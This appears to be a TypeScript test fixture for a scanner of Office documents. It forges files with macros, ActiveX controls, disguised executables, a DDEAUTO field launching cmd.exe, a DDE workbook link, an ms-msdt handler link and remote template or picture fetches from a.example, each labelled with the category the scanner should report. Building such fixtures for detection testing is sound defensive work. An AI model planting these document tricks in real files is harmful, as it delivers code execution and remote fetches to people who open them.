import {
  forgeCompound,
  forgeSheets,
  forgeWord,
  forgedBody,
  forgedRelation,
  part,
  wordWith,
} from './forge-office.ts'
import type { HostileFile } from './hostile-file.ts'

const related = (type: string, target: string, external = true) =>
  wordWith(part('word/_rels/document.xml.rels', forgedRelation(type, target, external)))
const field = (content: string) =>
  forgeWord(forgedBody(`<w:p><w:r><w:instrText>${content}</w:instrText></w:r></w:p>`))
const typed = (kind: string) =>
  forgeWord(
    undefined,
    [part('word/media/image9.jpg', 'x')],
    `<Override PartName="/word/media/image9.jpg" ContentType="${kind}"/>`,
  )

/** Office files with something in them that runs or hides. */
export const activeOffice: HostileFile[] = [
  ['macros', 'macros', () => wordWith(part('word/vbaProject.bin', 'x'))],
  ['macros under another name', 'macros', () => typed('application/vnd.ms-office.vbaProject')],
  ['macros by a relation', 'macros', () => related('vbaProject', 'media/image9.jpg', false)],
  [
    'a macro document called .docx',
    'macros',
    () => typed('application/vnd.ms-word.document.macroEnabled.main+xml'),
  ],
  ['a sheet of old macros', 'macros', () => forgeSheets([part('xl/macrosheets/sheet1.xml', '<a/>')])],
  ['macros of OpenDocument', 'macros', () => wordWith(part('Basic/Standard/a.xml', '<a/>'))],
  ['scripts of OpenDocument', 'macros', () => wordWith(part('Scripts/python/a.py', 'x'))],
  ['a control', 'macros', () => typed('application/vnd.ms-office.activeX+xml')],
  ['a control by its name', 'active_content', () => wordWith(part('word/activeX/activeX1.bin', 'x'))],
  ['a control by a relation', 'active_content', () => related('control', 'a.xml', false)],
  ['an object', 'embedded_file', () => related('oleObject', 'embeddings/a.bin', false)],
  ['an object from elsewhere', 'embedded_file', () => related('oleObject', 'https://a.example/a')],
  [
    'a program called a picture',
    'embedded_file',
    () => wordWith(part('word/media/a.png', Buffer.from('4d5a9000', 'hex'))),
  ],
  [
    'a shortcut called a picture',
    'embedded_file',
    () => wordWith(part('word/media/a.png', Buffer.from('4c00000001140200', 'hex'))),
  ],
  [
    'an old document within',
    'embedded_file',
    () => wordWith(part('word/embeddings/a.bin', forgeCompound('WordDocument'))),
  ],
  [
    'a field that runs a command',
    'active_content',
    () => field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
  ],
  [
    'a command broken into pieces',
    'active_content',
    () =>
      forgeWord(
        forgedBody(
          '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>',
        ),
      ),
  ],
  [
    'a simple field that runs a command',
    'active_content',
    () => forgeWord(forgedBody('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')),
  ],
  [
    'a live link in a workbook',
    'active_content',
    () =>
      forgeSheets([
        part(
          'xl/externalLinks/externalLink1.xml',
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        ),
      ]),
  ],
  ['a link that is a script', 'active_content', () => related('hyperlink', 'javascript:alert(1)')],
  [
    'a link to a program of this machine',
    'active_content',
    () => related('hyperlink', 'file:///C:/Windows/System32/calc.exe'),
  ],
  [
    'a link to a helper of Windows',
    'active_content',
    () => related('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
  ],
]

/** Office files that fetch something from another machine. */
export const reachingOffice: HostileFile[] = [
  [
    'a template from the web',
    'reaches_outside',
    () => related('attachedTemplate', 'https://a.example/a.dotm'),
  ],
  [
    'a template from a share',
    'reaches_outside',
    () => related('attachedTemplate', '\\\\a.example\\share\\a.dotm'),
  ],
  [
    'a template from a share by file',
    'reaches_outside',
    () => related('attachedTemplate', 'file://a.example/share/a.dotm'),
  ],
  ['a picture from the web', 'reaches_outside', () => related('image', 'http://a.example/a.png')],
  ['a frame from the web', 'reaches_outside', () => related('frame', 'http://a.example/a.htm')],
  [
    'a page in the clothes of a template',
    'reaches_outside',
    () => related('attachedTemplate', 'mhtml:http://a.example/a!x'),
  ],
  [
    'a field that fetches a picture',
    'reaches_outside',
    () => field('INCLUDEPICTURE "https://a.example/a.png"'),
  ],
  ['a field that fetches a text', 'reaches_outside', () => field('INCLUDETEXT \\\\a.example\\a.docx')],
]
